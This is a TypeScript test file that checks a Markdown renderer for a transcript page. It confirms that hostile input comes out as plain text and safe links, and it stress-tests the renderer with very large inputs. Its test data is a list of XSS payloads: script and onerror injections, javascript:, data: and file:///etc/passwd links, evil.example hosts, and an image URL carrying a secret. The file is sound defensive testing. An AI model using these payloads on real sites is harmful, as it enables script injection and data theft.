import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { blockNode } from "../../../web/markdown/block.tsx";
import { createBlockReader, maxMarkdownChars } from "../../../web/markdown/block-reader.ts";
import { elementsOf, toText } from "../support/to-text.ts";

const elements: ReadonlySet<unknown> = new Set([
  ..."p h3 h4 h5 h6 ul ol li blockquote hr br strong em del code a span figure table thead tbody tr th td".split(
    " ",
  ),
]);
const properties: ReadonlySet<string> = new Set([
  ..."children dir class href target rel title role tabIndex scope start code info isClosed aria-label".split(
    " ",
  ),
]);

/** Draws a text as the page does, and fails for anything that a transcript must not bring into it. */
function draw(text: string): string {
  const blocks = createBlockReader().read(text, true);
  const nodes = blocks.map(({ token, isClosed }) => blockNode(token, isClosed));
  for (const { type, props } of elementsOf(nodes)) {
    if (typeof type === "function") expect(["CodeBlock", "Fragment", "$"]).toContain(nameOf(type));
    else expect(elements, `<${String(type)}>`).toContain(type);
    for (const name of Object.keys(props)) expect(properties, name).toContain(name);
    if (props.href !== undefined) {
      expect(String(props.href)).toMatch(/^(?:https?:\/\/|mailto:)/);
      expect(props).toMatchObject({ target: "_blank", rel: "noopener noreferrer" });
    }
  }
  return toText(nodes);
}

function nameOf(type: { readonly name: string }): string {
  return type.name === "CodeBlock" ? type.name : "Fragment";
}

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<iframe src=//evil.example></iframe>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  "<form action=//evil.example><input name=a></form>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<!--><script>alert(1)</script>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\nscript:alert(1))",
  "[a](<java\tscript:alert(1)>)",
  "[a](&#106;avascript:alert(1))",
  "[a](javascript&colon;alert(1))",
  "[a](javascript&#x3A;alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](vbscript:msgbox(1))",
  "[a](file:///etc/passwd)",
  "[a](blob:https://x.example/1)",
  "[a](//evil.example)",
  "[a](/api/daemon/stop)",
  "[a](#/approvals)",
  "[a](https://good.example@evil.example/)",
  "[a](intent://x#Intent;end)",
  "[a]\n\n[a]: javascript:alert(1)",
  "![a](javascript:alert(1))",
  "![a](https://evil.example/a.png?secret=1)",
  '![a](x "onerror=alert(1)")',
  "<javascript:alert(1)>",
  '<https://x.example"onclick=alert(1)>',
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "``` <img src=x onerror=alert(1)>\nx\n```",
  "|<script>|\n|-|\n|<img src=x onerror=1>|",
  "# <img src=x onerror=alert(1)>",
  "- <details open ontoggle=alert(1)>",
  "> <video><source onerror=alert(1)>",
  "constructor __proto__ [__proto__] [constructor]",
  "[__proto__]: https://x.example\n\n[__proto__]",
  "```__proto__\nx\n```",
  "```constructor\nx\n```",
];

describe("a hostile text", () => {
  it.each(attacks)("brings nothing but text and harmless links into the page: %j", (attack) => {
    draw(attack);
    draw(`- a\n  > ${attack}\n\n**${attack}**`);
  });

  it("shows HTML as the text that it is", () => {
    expect(draw("<script>alert(1)</script>")).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(draw("a <b>c</b>")).toContain("a &lt;b&gt;c&lt;/b&gt;");
  });

  it("writes out what turns the direction of the text", () => {
    expect(draw("user\u202etxt.exe \u2066x `a\u202eb`")).toContain("user⟨U+202E⟩txt.exe ⟨U+2066⟩x");
    expect(draw("`a\u202eb`")).toContain("a⟨U+202E⟩b");
    expect(draw("a\u0000\u001b[31mb\u009b")).not.toMatch(/[\u0001-\u0008\u001b\u009b]/);
    expect(draw("👩‍💻 नमस्ते‌")).toContain("👩‍💻");
  });

  const long: readonly [string, string][] = [
    ["a line of a megabyte", "x".repeat(1_000_000)],
    ["words of a megabyte", "hello *world* ".repeat(70_000)],
    ["quotes in quotes", `${">".repeat(60_000)}a`],
    ["lists in lists", `${"- ".repeat(40_000)}a`],
    ["mixed nesting", `${"> - 1. ".repeat(10_000)}a`],
    ["indented lists", Array.from({ length: 400 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n")],
    ["rules that are none", `${"* * ".repeat(30_000)}a`],
    ["brackets", "[".repeat(100_000)],
    ["links in links", "[a](".repeat(30_000)],
    ["pictures", "![".repeat(60_000)],
    ["stars", `${"*a ".repeat(40_000)}`],
    ["stars and underscores", `${"**_".repeat(20_000)}a${"_**".repeat(20_000)}`],
    ["strikes", "~a~~b".repeat(25_000)],
    ["backticks", Array.from({ length: 480 }, (_, i) => "`".repeat(i + 1)).join(" ")],
    ["tags", "<".repeat(100_000)],
    ["half tags", "<a ".repeat(40_000)],
    ["comments", "<!--".repeat(30_000)],
    ["addresses", `${"a.".repeat(60_000)}@`],
    ["short addresses", "a.b.c.d.e.f@ ".repeat(10_000)],
    ["urls", "http://a".repeat(15_000)],
    ["references", "&amp;&#1;&".repeat(12_000)],
    ["definitions", "[a]: x\n".repeat(18_000)],
    ["a wide table", `${"|a".repeat(9_000)}|\n${"|-".repeat(9_000)}|\n${"|x".repeat(9_000)}|`],
    ["a long table", `|a|b|\n|-|-|\n${"|x|y|\n".repeat(20_000)}`],
    ["fences", "```\n".repeat(30_000)],
    ["escapes", "\\".repeat(100_000)],
    ["line ends", "\n".repeat(120_000)],
    ["carriage returns", "\r".repeat(120_000)],
    ["spaces", `${" ".repeat(120_000)}a`],
    ["setext lines", `${"a\n".repeat(60_000)}=`],
  ];

  it.each(long)("is drawn, deep, long or slow as it is: %s", (_name, text) => {
    draw(text);
  });

  it("shows nothing of a text beyond the bound as Markdown", () => {
    const blocks = createBlockReader().read(`${"a".repeat(maxMarkdownChars)}# b`, true);
    expect(blocks.map(({ token }) => token.raw.length)).toEqual([maxMarkdownChars]);
  });

  it("is harmless whatever it is", () => {
    const pieces = fc.constantFrom(
      ...'[ ] ( ) ! < > * ** _ ` ``` # - 1. | |-| \n \n\n & : javascript: https:// data: a b \\ " = + ~~ \t @ onerror=x src=x script img'.split(
        " ",
      ),
      "\n",
      "\n\n",
      "    ",
      "&#106;",
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 4 })), { maxLength: 60 }), (parts) => {
        draw(parts.join(""));
      }),
      { numRuns: 500 },
    );
  });
});
